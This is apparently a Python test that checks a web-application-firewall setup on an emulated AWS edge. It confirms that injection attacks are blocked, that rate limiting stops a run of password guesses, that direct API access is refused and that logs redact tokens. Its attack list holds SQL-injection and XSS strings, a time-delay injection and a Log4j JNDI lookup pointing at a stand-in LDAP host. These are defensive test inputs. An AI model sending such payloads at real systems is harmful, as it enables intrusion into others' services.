"""What the pattern claims: attacks end at the edge, ordinary people pass, and nobody comes past the edge to the API."""

import http.client
import json
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

from stage import REGION, holds, until

HERE = Path(__file__).parent
FAR = "eu-west-1"
LIMIT = 20
ATTACKS = [
    ("in the query", "/api/login?id=1%20UNION%20SELECT%20password", None), ("encoded twice", "/api/login?id=1%2520union%2520select%25201", None),
    ("broken up by comments", "/api/login?id=1/**/union/**/select/**/1", None), ("in JSON", "/api/login", {"name": "x' OR '1"}),
    ("a script in JSON", "/api/login", {"a": [{"b": "<SCRIPT>alert(1)</script>"}]}),
]  # fmt: skip
MANAGED = [
    ("known", "that looks up a name for Log4j", "/api/login", {"name": "${jndi:ldap://198.51.100.9/x}"}),
    ("databases", "that has the database wait", "/api/login", {"name": "x'; waitfor delay '0:0:5'--"}),
]
"""What rules that AWS manages end, and by which of them."""
BLOCKED = len(ATTACKS) + len(MANAGED) + 3


class Visitor:
    """Somebody at an address of the world, at an edge location."""

    def __init__(self, cloud, domain, address, edge="127.0.0.1"):
        self.domain, self.address, self.edge = domain, address, edge
        self.port = urllib.parse.urlsplit(cloud.endpoint).port

    def ask(self, path, body=None, **headers):
        """Status, what X-Cache says, and the body."""
        connection = http.client.HTTPConnection(self.edge, self.port, timeout=60)
        data = None if body is None else json.dumps(body)
        said = {"Host": self.domain, "X-Kumoniwa-From": self.address, "Content-Type": "application/json", **headers}
        connection.request("POST" if body is not None else "GET", path, data, said)
        reply = connection.getresponse()
        found = reply.status, reply.headers.get("X-Cache", ""), reply.read()
        connection.close()
        return found


def show(cloud):
    secret = f"edge-{time.time_ns()}"
    made = cloud.deploy(HERE / "template.yaml", "guarded-edge", parameters={"Secret": secret})
    guest, attacker = (Visitor(cloud, made["Domain"], address) for address in ("198.51.100.7", "203.0.113.66"))

    status, _, body = guest.ask("/api/login", {"name": "Aiko O'Neill, union member, selects tea"})
    holds("ordinary people pass, whatever their names", (status, json.loads(body)) == (200, {"hello": "Aiko O'Neill, union member, selects tea"}), status)
    until(lambda: cloud.invocations(made["Function"]) == 1)
    for name, path, sent in [*ATTACKS, *(each[1:] for each in MANAGED)]:
        status, cache, body = attacker.ask(path, sent, Authorization="Bearer token-of-somebody")
        holds(f"an attack {name} ends at the edge", status == 403 and b"Request blocked." in body and cache == "Error from cloudfront", f"{status} {cache}")
    time.sleep(0.5)
    calls = cloud.invocations(made["Function"])
    holds("none of them was heard by the function", calls == 1, f"{calls} call, of the guest")
    past_the_edge(made, cloud)
    guessing(guest, attacker)
    told(cloud, made)
    cloud.kill_and_restart()
    again = until(lambda: guest.ask("/api/login", {"name": "Ken"})[0] == 200)
    blocked = attacker.ask(ATTACKS[0][1])[0]
    holds("after the region was killed people pass and attacks do not", again is not None and blocked == 403, f"200 and {blocked}")
    far_edge(cloud, made)


def past_the_edge(made, cloud):
    try:
        status, body = cloud.call_api(f"{made['Api']}/api/login", "POST", {"name": "Eve"})
    except urllib.error.HTTPError as error:
        status, body = error.code, json.loads(error.read())
    holds("who goes past the edge to the API is forbidden", (status, body) == (403, {"message": "Forbidden"}), f"{status} {body}")


def guessing(guest, attacker):
    """The attacks counted, too, as far as they came to the rule: those that another rule ended did not."""
    found = [attacker.ask("/api/login", {"name": "root", "password": str(n)}) for n in range(LIMIT + 3)]
    statuses = [status for status, _, _ in found]
    right = statuses == [200] * LIMIT + [429] * 3 and json.loads(found[-1][2]) == {"message": "too many attempts"}
    holds(f"of {LIMIT + 3} guesses from one address {LIMIT} are heard", right, f"{statuses.count(200)} heard, {statuses.count(429)} held off")
    status, _, _ = guest.ask("/api/login", {"name": "Mia"})
    holds("while everybody else logs in", status == 200, status)


def told(cloud, made):
    logs, names = cloud.client("logs"), []

    def lines():
        found = logs.filter_log_events(logGroupName=made["Log"])["events"]
        names[:] = [json.loads(each["message"]) for each in found]
        return len(names) >= BLOCKED

    took = until(lines)
    rules = [line["terminatingRuleId"] for line in names]
    right = took is not None and rules.count("injection") == len(ATTACKS) and rules.count("guessing") == 3
    right = right and all(rules.count(name) == 1 for name, *_ in MANAGED)
    holds("each that was blocked is a line of the log, and no other", right and len(rules) == BLOCKED, f"{len(rules)} lines")
    text = json.dumps(names)
    holds("which knows from where, and no token", "203.0.113.66" in text and "token-of-somebody" not in text and '"REDACTED"' in text, names[0]["httpRequest"]["country"])


def far_edge(cloud, made):
    """A region that is used is an edge location."""
    cloud.client("sqs", FAR).list_queues()
    edge = cloud.admin("GET", "health")["regions"][FAR]["address"]
    status, _, body = Visitor(cloud, made["Domain"], "203.0.113.66", edge).ask(ATTACKS[0][1])
    holds("another edge location blocks by the same rules", status == 403 and b"Request blocked." in body, f"{status} at {FAR}, not only at {REGION}")
